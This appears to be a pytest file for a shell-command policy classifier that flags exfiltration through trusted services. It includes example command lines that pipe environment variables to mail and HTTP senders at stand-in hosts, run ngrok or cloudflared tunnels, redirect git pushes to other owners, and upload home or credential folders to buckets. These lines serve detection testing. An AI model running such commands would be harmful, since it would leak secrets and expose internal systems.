"""The readers changed for the classes a twenty-fourth blind probe (tests/corpus/probe24, data
leaving through trusted services) found unread, each in spellings of our own with its nearest
everyday look-alike (none is a corpus entry): the environment dumped into mail and message
senders, mail and HTTP sent from interpreter code by libraries the readers did not know, and
tunnel clients run from a container image or a package runner."""

from __future__ import annotations

import pytest
from dsh_policy.cmdline.effects import shell_acts
from dsh_policy.cmdline.shell import shell_effects


def kinds(line: str) -> set[str]:
    return {effect["kind"] for effect in shell_acts(line)}


def connects(line: str) -> list[str]:
    return [e["target"] for e in shell_effects(line) if e["kind"] == "connect"]


@pytest.mark.parametrize(
    "line",
    [
        "printenv | s-nail -s nightly ops-archive@example.org",
        "env | sendmail someone@example.net",
        'swaks --to someone@example.net --body "$(printenv)" --server relay.example.net',
        "export -p | msmtp someone@example.net",
        "env | gh gist create --filename vars.txt -",
        "printenv | http POST https://collector.example.net/in",
        "env | openssl s_client -quiet -connect 192.0.2.9:443",
    ],
)
def test_the_environment_handed_to_a_sender_is_harvest(line: str) -> None:
    assert "secret-hunt" in kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        "mail -s 'disk report' ops@example.org < reports/disk.txt",
        "printenv PATH | mail -s path me@example.org",
        "env | grep -c . | mail -s count me@example.org",
        "env | wc -l | mail -s count me@example.org",
        "gh gist create notes/backoff.py",
    ],
)
def test_mail_and_gists_without_an_environment_dump_are_not_harvest(line: str) -> None:
    assert "secret-hunt" not in kinds(line)


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("python3 -c \"import smtplib; smtplib.SMTP_SSL('mail.example.net', 465)\"", "mail.example.net"),
        (
            "node -e \"require('nodemailer').createTransport({host: 'mail.example.net'}).sendMail({})\"",
            "",
        ),
        (
            "perl -MLWP::UserAgent -e 'LWP::UserAgent->new->post(\"https://collector.example.net/u\", {})'",
            "https://collector.example.net/u",
        ),
        ("perl -MNet::SMTP -e 'Net::SMTP->new(\"mail.example.net\")'", "mail.example.net"),
    ],
)
def test_mail_and_user_agents_in_code_connect(line: str, target: str) -> None:
    found = connects(line)
    assert found, line
    if target:
        assert target in found


def test_code_that_only_formats_mail_connects_nowhere() -> None:
    assert not connects('python3 -c "from email.message import EmailMessage; print(EmailMessage())"')


@pytest.mark.parametrize(
    "line",
    [
        "npx untun tunnel http://localhost:27017",
        "docker run -d --network host cloudflare/cloudflared:latest tunnel --url tcp://localhost:5432",
        "podman run --rm --net=host docker.io/ngrok/ngrok tcp 22",
        "docker run -d --network host cloudflare/cloudflared:2024.1.0",
    ],
)
def test_tunnel_clients_behind_a_runner_or_an_image_are_tunnels(line: str) -> None:
    assert "tunnel" in kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        "docker run --rm -p 127.0.0.1:8080:80 nginx:alpine",
        "docker run --rm cloudflare/cloudflared:latest --version",
        "npx untun --help",
    ],
)
def test_other_images_and_a_clients_version_are_not_tunnels(line: str) -> None:
    assert "tunnel" not in kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        'git config --global url."git@github.com:mirror-corp/".insteadOf "git@github.com:our-org/"',
        "git config remote.upstream.pushurl git@gitlab.example.org:elsewhere/repo.git",
        "git remote set-url --push origin https://git.example.net/other/repo.git",
        "git remote set-url origin https://github.com/other-owner/app.git; git push origin HEAD",
        "git remote set-url origin https://github.com/other-owner/app.git && git push",
    ],
)
def test_pushes_and_fetches_pointed_at_another_owner_or_host(line: str) -> None:
    assert "registry" in kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        'git config --global url."git@github.com:our-org/".insteadOf "https://github.com/our-org/"',
        'git config url."https://x-access-token:${TOKEN}@github.com/".insteadOf "https://github.com/"',
        "git remote set-url origin git@github.com:our-org/app.git",
        "git remote add fork https://github.com/me/app.git && git push fork feature/x",
        "git push origin main",
    ],
)
def test_the_same_owner_over_another_protocol_and_plain_pushes_are_no_redirect(line: str) -> None:
    assert "registry" not in kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        "aws s3 sync . s3://some-bucket/backup/",
        "aws s3 cp ~ s3://some-bucket/home/ --recursive",
        "aws s3 cp /srv s3://some-bucket/srv/ --recursive",
        "gcloud storage cp -r ./config/secrets gs://some-bucket/",
        "gsutil -m cp -r /home/dev/.kube gs://some-bucket/k/",
    ],
)
def test_whole_trees_and_secret_folders_uploaded_to_a_bucket_are_publishing(line: str) -> None:
    assert "publish" in kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        "aws s3 sync ./build s3://some-bucket/site/ --delete",
        "aws s3 cp dist/app.tar.gz s3://some-bucket/releases/",
        "gcloud storage cp -r site/public gs://some-bucket/",
        "gsutil cp gs://some-bucket/data.csv .",
        "aws s3 cp s3://some-bucket/model.bin ~",
    ],
)
def test_build_output_and_downloads_are_not_publishing(line: str) -> None:
    assert "publish" not in kinds(line)


@pytest.mark.parametrize(
    ("line", "exposed"),
    [
        ("gsutil signurl -d 3d key.json gs://some-bucket/dump.sql.gz", True),
        ("gsutil signurl -d 48 key.json gs://some-bucket/dump.sql.gz", True),
        ("gcloud storage sign-url gs://some-bucket/a.bin --duration=7d", True),
        ("gsutil signurl -d 2h key.json gs://some-bucket/a.whl", False),
        ("gcloud storage sign-url gs://some-bucket/a.bin --duration=3600", False),
    ],
)
def test_signed_links_valid_for_days_are_exposure(line: str, exposed: bool) -> None:
    assert ("cloud-exposure" in kinds(line)) is exposed


def test_a_fork_into_another_organisation_is_publishing() -> None:
    assert "publish" in kinds("gh repo fork our-org/payments --org someone-else --clone=false")
    assert "publish" not in kinds("gh repo fork our-org/payments --clone")
